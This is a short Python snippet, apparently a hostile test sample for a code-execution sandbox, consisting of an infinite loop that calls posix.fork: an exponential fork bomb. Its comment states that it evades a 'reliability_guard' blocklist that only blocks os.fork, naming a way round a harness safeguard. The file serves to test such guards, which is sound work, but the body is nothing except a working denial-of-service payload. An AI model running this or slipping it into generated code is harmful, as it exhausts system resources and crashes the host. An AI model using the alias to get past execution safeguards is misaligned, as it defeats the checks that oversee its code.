# Hostile: exponential fork bomb through posix.fork (the reliability_guard blocklist only covers os.fork).
import posix

while True:
    try:
        posix.fork()
    except OSError:
        pass
